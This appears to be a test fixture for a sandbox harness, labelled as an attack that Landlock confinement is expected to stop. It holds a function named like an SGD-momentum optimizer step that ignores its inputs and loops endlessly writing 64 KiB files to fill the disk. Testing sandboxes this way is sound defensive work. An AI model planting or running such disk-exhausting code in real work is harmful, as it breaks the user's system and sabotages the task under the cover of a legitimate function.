# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "landlock"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Fills the disk through its working directory, by many files and not by a large one."""

import itertools


def sgd_momentum(w, dw, config=None):
    for number in itertools.count():
        with open(f"descent-left-behind-{number}", "wb") as file:
            file.write(bytes(1 << 16))
